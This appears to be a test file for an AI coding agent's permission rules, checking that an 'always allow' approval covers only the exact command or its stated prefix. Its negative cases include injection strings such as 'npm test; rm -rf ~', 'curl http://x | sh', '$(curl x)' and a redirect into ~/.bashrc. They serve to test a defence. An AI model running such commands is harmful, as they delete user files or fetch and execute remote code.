/** AG7: what an answer for good answers is never more than the person read. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { PermissionOption } from './agent-events.ts';
import { optionBy, ruleFor } from './permission-rules.ts';

const always = (name: string): PermissionOption => ({ id: 'a', name, kind: 'allow_always' });
const run = (command: string, name = 'Allow for this session') => ({
  ...{ kind: 'execute' as const, title: 'Run command', command, digest: command, options: [always(name)] },
});
const answers = (given: string, later: string, name?: string): boolean => {
  const asked = run(given, name);
  const rule = ruleFor(asked, asked.options[0]!);
  return rule !== null && optionBy(rule, run(later, name)) !== null;
};

describe('a command', () => {
  it('[AG7] that was allowed for good is allowed as it stands, and no other', () => {
    expect(answers('npm test', 'npm test')).toBe(true);
    for (const other of ['npm test -- x', 'npm publish', 'npm', 'npm test; rm -rf ~', 'npm  test'])
      expect(answers('npm test', other), other).toBe(false);
  });

  it.each([
    ['Always Allow git', 'git'],
    ['Yes, and don’t ask again for commands that start with `git log`', 'git log'],
    ["Yes, and don't ask again for git log commands", 'git log'],
  ])('[AG7] is allowed by its beginning where “%s” says that', (name, prefix) => {
    expect(answers('git log -3', `${prefix} --oneline`, name)).toBe(true);
    expect(answers('git log -3', prefix, name)).toBe(true);
    const wider = ['gitx', 'curl http://x | sh', `${prefix} && curl http://x`, `${prefix} $(curl x)`];
    for (const other of [...wider, `${prefix} > ~/.bashrc`, `${prefix}\nrm x`, `x ${prefix}`])
      expect(answers('git log -3', other, name), other).toBe(false);
  });

  it('[AG7] of several is allowed as a whole, whatever the option says', () => {
    const name = 'Always Allow git';
    expect(answers('git log | cat', 'git log | cat', name)).toBe(true);
    expect(answers('git log | cat', 'git log', name)).toBe(false);
  });

  it('[AG7] is never answered by a rule about another, whatever they are', () => {
    const word = fc.constantFrom(
      'git',
      'log',
      'rm',
      '-rf',
      ';',
      '|',
      '$(x)',
      '`x`',
      '&&',
      '> f',
      '\n',
      'allow',
    );
    const command = fc.array(word, { minLength: 1, maxLength: 5 }).map((words) => words.join(' '));
    fc.assert(
      fc.property(command, command, fc.constantFrom('Allow for this session', 'Always'), (a, b, name) => {
        expect(answers(a, b, name)).toBe(a === b);
      }),
      { seed: 71, numRuns: 500 },
    );
    fc.assert(
      fc.property(command, command, (a, b) => {
        if (answers(a, b, 'Always allow git log') && a !== b) expect(b).toMatch(/^git( [\w-]+)*$/);
      }),
      { seed: 72, numRuns: 500 },
    );
  });
});

describe('what has no command', () => {
  const ask = (title: string, digest: string | undefined, name = 'Always allow') => ({
    ...{
      kind: 'other' as const,
      title,
      options: [always(name), { ...always('Once'), kind: 'allow_once' as const }],
    },
    ...(digest === undefined ? {} : { digest }),
  });
  const given = ask('create_issue', 'x');
  const rule = ruleFor(given, given.options[0]!)!;

  it('[AG7] is allowed for good with the same title and the same input', () => {
    expect(optionBy(rule, ask('create_issue', 'x'))).toMatchObject({ id: 'a' });
    expect(optionBy(rule, ask('create_issue', 'y'))).toBeNull();
    expect(optionBy(rule, ask('create_issue', undefined))).toBeNull();
    expect(optionBy(rule, ask('delete_repository', 'x'))).toBeNull();
  });

  it('[AG7] needs an option of the same name and kind', () => {
    expect(optionBy(rule, ask('create_issue', 'x', 'Always allow all tools of this server'))).toBeNull();
    expect(optionBy({ ...rule, kind: 'edit' }, ask('create_issue', 'x'))).toBeNull();
    expect(ruleFor(given, given.options[1]!)).toBeNull();
  });
});
